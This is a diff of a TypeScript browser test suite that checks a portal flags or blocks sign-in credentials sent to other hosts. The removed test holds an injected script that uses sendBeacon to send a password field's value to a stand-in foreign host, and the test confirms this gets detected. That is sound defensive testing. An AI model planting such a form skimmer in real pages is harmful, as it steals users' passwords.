@@ -1,8 +1,7 @@
 import type { PortalJourneys } from '../../helpers/browser/portal/portal-journeys.ts'
 import { openPortalIn } from '../../helpers/browser/portal/portal-session.ts'
 import { originsOf } from '../../helpers/http/allowed-origins.ts'
-import { expect, foreign, PATIENT, test, the, walkFrom } from '../browser/browser-test.ts'
-import { consentPages } from '../browser/consent-pages.ts'
+import { expect, foreign, PATIENT, test, the } from '../browser/browser-test.ts'
 import { type Answer, form, page, to, type Visit } from '../browser/service.ts'
 import { areMasked } from '../secrets/masked.ts'
 
@@ -80,30 +79,6 @@ test('a log-in that is sent on to another host is blocked, with both hosts, and 
   expect(failure?.reason).toContain(`POST ${foreign(stranger)} with <portal_password#`)
   expect(failure?.reason).toContain(`was not sent from the page at ${own.origin}`)
   expect(sent).toEqual([])
-})
-
-test('the sessions of one browser are told of their own requests only', async ({
-  chrome,
-  session,
-  service,
-}) => {
-  const stranger = foreign(await service(() => ''))
-  const beacon = `<script>document.forms[0].onsubmit = () => navigator.sendBeacon('${stranger}', document.querySelector('input').value)</script>`
-  const own = await service(portal({ 'GET /': signIn + beacon }))
-  const redirectUri = 'https://client.invalid/callback'
-  const consents = await service(consentPages({ redirectUri }))
-  const developer = openPortalIn(chrome, options(own.origin))
-  const [walked, consented] = await Promise.all([
-    developer.walk({ journey: 'signIn' }),
-    session.walk(walkFrom(consents, { redirectUri })),
-  ])
-  await developer.close()
-  expect(walked.failure).toBeUndefined()
-  expect(walked.strays).toMatchObject([
-    { from: own.origin, to: stranger, carries: [expect.stringMatching(/^<portal_password#/)] },
-  ])
-  expect(consented).toMatchObject({ redirect: `${redirectUri}?code=c1&state=s1` })
-  expect(consented.strays).toBeUndefined()
 })
 
 test('a picture does not show a fresh client secret, wherever its page prints it', async ({
